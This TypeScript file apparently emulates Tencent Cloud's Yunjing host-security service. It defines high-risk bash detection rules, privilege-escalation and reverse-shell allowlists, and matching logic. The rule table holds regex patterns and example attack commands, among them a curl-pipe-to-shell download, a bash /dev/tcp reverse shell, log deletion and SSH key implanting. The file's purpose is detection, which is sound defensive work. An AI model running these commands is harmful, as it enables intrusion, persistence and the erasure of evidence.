import type * as m from "tencentcloud-sdk-nodejs/tencentcloud/services/yunjing/v20180228/yunjing_models";
import { formatDateTime } from "../../platform/clock";
import { byIp, requireMachine, type MachineDoc } from "./machine-model";
import { docs, key, nextId, type Ctx } from "./store";
import { isIpv4 } from "./validate";

/*
 * Bash (high-risk command) rules detect: an executed command matching an enabled rule becomes a bash event.
 * Privilege-escalation and reverse-shell rules are allowlists: a matching detection is not reported.
 * Rules apply to one host (Uuid/Hostip) or to every host (IsGlobal 1); Status 0 is enabled, 1 disabled.
 */

export type BashRuleDoc = m.BashRule & { system: boolean };
export type PrivilegeRuleDoc = m.PrivilegeRule;
export type ReverseShellRuleDoc = m.ReverseShellRule;

export const bashRules = (ctx: Ctx) => docs<BashRuleDoc>(ctx, "bash-rule");
export const privilegeRules = (ctx: Ctx) => docs<PrivilegeRuleDoc>(ctx, "privilege-rule");
export const reverseShellRules = (ctx: Ctx) => docs<ReverseShellRuleDoc>(ctx, "reverse-shell-rule");

/** User bash rules are numbered after the system rules. */
export const FIRST_USER_BASH_RULE = 1001;

const SYSTEM_BASH_RULES: readonly [string, number, string, string][] = [
  ["vipw修改shadow文件", 1, "^(vipw|\\/usr\\/sbin\\/vipw)\\s+-+s", "通过vipw修改shadow文件, 例：vipw -s"],
  ["下载并执行远程脚本", 1, "(curl|wget)\\s+.*\\|\\s*(ba)?sh", "下载远程脚本并直接交给shell执行, 例：curl http://1.2.3.4/a.sh | sh"],
  ["反弹shell命令", 1, "(ba)?sh\\s+-i\\s+>&\\s*\\/dev\\/tcp\\/", "通过bash建立反弹shell, 例：bash -i >& /dev/tcp/1.2.3.4/8080 0>&1"],
  ["清除系统日志", 2, "(>\\s*|rm\\s+-[rf]+\\s+)\\/var\\/log\\/", "清空或删除系统日志, 例：rm -rf /var/log/secure"],
  ["写入SSH公钥", 2, ">>?\\s*\\S*\\.ssh\\/authorized_keys", "写入SSH公钥实现免密登录, 例：echo key >> ~/.ssh/authorized_keys"],
  ["修改计划任务", 3, "crontab\\s+-e|>>?\\s*\\/etc\\/cron", "修改计划任务实现持久化, 例：crontab -e"],
  ["清除命令历史", 3, "history\\s+-c", "清除命令历史记录, 例：history -c"],
  ["赋予全局写权限", 3, "chmod\\s+(-R\\s+)?777\\s", "赋予文件全局读写执行权限, 例：chmod 777 /tmp/a"],
];

/** The system rules exist from the account's first look; switching them is the only change they take. */
export async function ensureSystemBashRules(ctx: Ctx): Promise<void> {
  const col = bashRules(ctx);
  if (await col.has("1")) return;
  const created = formatDateTime(Date.UTC(2019, 7, 12, -8));
  for (const [i, [Name, Level, Rule, Decription]] of SYSTEM_BASH_RULES.entries()) {
    await col.insert(key(i + 1), {
      Id: i + 1,
      Uuid: "",
      Name,
      Level,
      Rule,
      Decription,
      Operator: "admin",
      IsGlobal: 1,
      Status: 0,
      CreateTime: created,
      ModifyTime: created,
      Hostip: "",
      system: true,
    });
  }
}

export function newRuleId(ctx: Ctx, kind: "bash" | "privilege" | "reverse-shell"): Promise<number> {
  return nextId(ctx, `${kind}-rule`, kind === "bash" ? FIRST_USER_BASH_RULE : 1);
}

export function operator(ctx: Ctx): string {
  return ctx.caller.subUin ?? ctx.caller.uin;
}

/** The host a rule applies to, from its Uuid or Hostip (Hostip errors use `ipCode`). */
export async function ruleHost(
  ctx: Ctx,
  req: { Uuid?: string; Hostip?: string },
  ipCode: "InvalidParameter.IpNoValid" | "InvalidParameter.RuleHostipErr",
): Promise<MachineDoc | null> {
  if (req.Uuid) return requireMachine(ctx, req.Uuid);
  if (req.Hostip) {
    if (!isIpv4(req.Hostip)) ctx.fail(ipCode, `Hostip \`${req.Hostip}\` is not a valid IPv4 address.`);
    const host = await byIp(ctx, req.Hostip);
    if (!host) ctx.fail("InvalidParameter.RuleHostipErr", `No protected host has the IP ${req.Hostip}.`);
    return host;
  }
  return null;
}

function appliesTo(rule: { IsGlobal: number; Uuid: string; Status: number }, uuid: string): boolean {
  return rule.Status === 0 && (rule.IsGlobal === 1 || rule.Uuid === uuid);
}

/** The enabled bash rule a command matches (the most dangerous first), or null. */
export async function matchBashRule(ctx: Ctx, uuid: string, command: string): Promise<BashRuleDoc | null> {
  await ensureSystemBashRules(ctx);
  const candidates = (await bashRules(ctx).all())
    .filter((r) => appliesTo(r, uuid))
    .sort((a, b) => a.Level - b.Level || a.Id - b.Id);
  for (const r of candidates) {
    try {
      if (new RegExp(r.Rule).test(command)) return r;
    } catch {
      // Rules are checked when saved; an unparseable one never matches.
    }
  }
  return null;
}

export async function matchPrivilegeRule(ctx: Ctx, uuid: string, processName: string): Promise<PrivilegeRuleDoc | null> {
  return (await privilegeRules(ctx).all()).find((r) => appliesTo(r, uuid) && r.ProcessName === processName) ?? null;
}

export async function matchReverseShellRule(ctx: Ctx, uuid: string, e: { ProcessName: string; DstIp: string; DstPort: number }): Promise<ReverseShellRuleDoc | null> {
  return (
    (await reverseShellRules(ctx).all()).find(
      (r) =>
        appliesTo(r, uuid) &&
        (!r.ProcessName || r.ProcessName === e.ProcessName) &&
        (!r.DestIp || r.DestIp === e.DstIp) &&
        (!r.DestPort || portMatches(r.DestPort, e.DstPort)),
    ) ?? null
  );
}

/** A rule port: `8080`, `8000-8100` or a comma list of those. */
export function portMatches(spec: string, port: number): boolean {
  return spec.split(",").some((part) => {
    const [a, b] = part.trim().split("-").map(Number);
    return b === undefined ? a === port : port >= a && port <= b;
  });
}

export function isPortSpec(spec: string): boolean {
  return spec.split(",").every((part) => {
    const m = /^(\d{1,5})(?:-(\d{1,5}))?$/.exec(part.trim());
    if (!m) return false;
    const a = Number(m[1]);
    const b = m[2] === undefined ? a : Number(m[2]);
    return a >= 1 && b <= 65535 && a <= b;
  });
}
